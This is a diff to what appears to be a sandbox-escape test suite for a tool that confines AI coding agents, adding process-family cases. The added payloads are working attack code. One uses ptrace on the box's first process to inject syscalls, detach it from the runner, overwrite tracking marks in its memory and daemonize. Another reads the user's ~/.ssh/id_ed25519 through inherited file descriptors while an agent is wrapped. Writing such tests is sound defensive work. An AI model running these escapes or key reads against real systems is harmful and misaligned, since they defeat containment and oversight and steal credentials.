@@ -2,13 +2,59 @@
 
 from __future__ import annotations
 
-from proof.escapes.case import Escape
+from proof.escapes.case import Escape, Network
+
+from untildone.system.box import scoping
 
 FAMILY = "processes"
 
+_KNOWN = "" if scoping.is_possible() else "before Linux 6.12, nothing but Yama keeps processes of a box apart"
+
 _ALL_PIDS = 'victims = {VICTIM, *(int(name) for name in os.listdir("/proc") if name.isdigit())} - {os.getpid()}\n'
 
+_TAKES_OVER = """
+import platform
+NAMES = "r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip cs eflags rsp ss fs_base gs_base ds es fs gs"
+ATTACH, DETACH, STEP, GET, SET, ALL_CHILDREN = 16, 17, 9, 12, 13, 0x40000000
+class Registers(ctypes.Structure):
+    _fields_ = [(name, ctypes.c_ulonglong) for name in NAMES.split()]
+LIBC.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
+def inject(number, *arguments):
+    before, now = Registers(), Registers()
+    LIBC.ptrace(GET, 1, None, ctypes.byref(before))
+    ctypes.memmove(ctypes.byref(now), ctypes.byref(before), ctypes.sizeof(now))
+    now.rax, now.orig_rax, now.rip = number, 2**64 - 1, before.rip - 2
+    now.rdi, now.rsi = arguments
+    LIBC.ptrace(SET, 1, None, ctypes.byref(now))
+    LIBC.ptrace(STEP, 1, None, None)
+    os.waitpid(1, ALL_CHILDREN)
+    LIBC.ptrace(SET, 1, None, ctypes.byref(before))
+if platform.machine() == "x86_64" and LIBC.ptrace(ATTACH, 1, None, None) == 0:
+    got("the first process of the box")
+    os.waitpid(1, ALL_CHILDREN)
+    # The order to end with the parent; a session of its own.
+    inject(157, 1, 0)
+    inject(112, 0, 0)
+    LIBC.ptrace(DETACH, 1, None, None)
+if opens("/proc/1/mem", os.O_RDWR):
+    got("the memory of the first process of the box")
+    stack = next(line for line in open("/proc/1/maps") if "[stack]" in line)
+    start, end = (int(part, 16) for part in stack.split()[0].split("-"))
+    with open("/proc/1/mem", "r+b", 0) as memory:
+        memory.seek(start)
+        content = memory.read(end - start)
+        at = content.find(b"UNTILDONE_MARK_")
+        while at >= 0:
+            memory.seek(start + at)
+            memory.write(b"X" * 15)
+            at = content.find(b"UNTILDONE_MARK_", at + 1)
+daemonize()
+"""
+
 ESCAPES = (
+    Escape("takes over the first process of the box, which ends with the runner", _TAKES_OVER, known=_KNOWN),
+    Escape("the same without a network", _TAKES_OVER, network=Network.NONE, known=_KNOWN),
+    Escape("the same with the network of the machine", _TAKES_OVER, network=Network.ALL, known=_KNOWN),
     Escape(
         "sees processes outside",
         'if "time.sleep(3600)" in run("cat /proc/[0-9]*/cmdline"):\n    got("a process outside")',
@@ -59,6 +105,25 @@ for number in os.listdir("/proc/self/fd"):
         if int(number) > 2 and not target.startswith(("/proc/", "pipe:", "anon_inode")) and WORKSPACE not in target:
             got(f"descriptor {number}: {target}")
 """,
+    ),
+    Escape(
+        "descriptors that the person's shell left open, under wrap",
+        """
+say("wrap" if "UNTILDONE_HOOK_SOCKET" in os.environ else "run")
+for number in filter(lambda name: int(name) > 2, os.listdir("/proc/self/fd")):
+    with contextlib.suppress(OSError):
+        os.path.isdir(f"/proc/self/fd/{number}") or show(f"/proc/self/fd/{number}")
+        with open(f".{HOME}/.ssh/id_ed25519", opener=lambda path, flags: os.open(path, flags, dir_fd=int(number))) as file:
+            say(file.read())
+""",
+        agent="claude",
+        flags=("--promise", "NEVER"),
+        before="echo Be strict. > SUPERVISOR.md",
+        then=(
+            'exec 7<"$HOME/.ssh/id_ed25519" 8</ 9>>../../../outside/file; script -qec "$UNTILDONE wrap claude" /dev/null </dev/null',
+            "grep -q 'wrap' said.txt || echo 'GOT no try under wrap' >> said.txt",
+        ),
+        needs=("script",),
     ),
     Escape(
         "memory and descriptors of other processes by calls of their own",
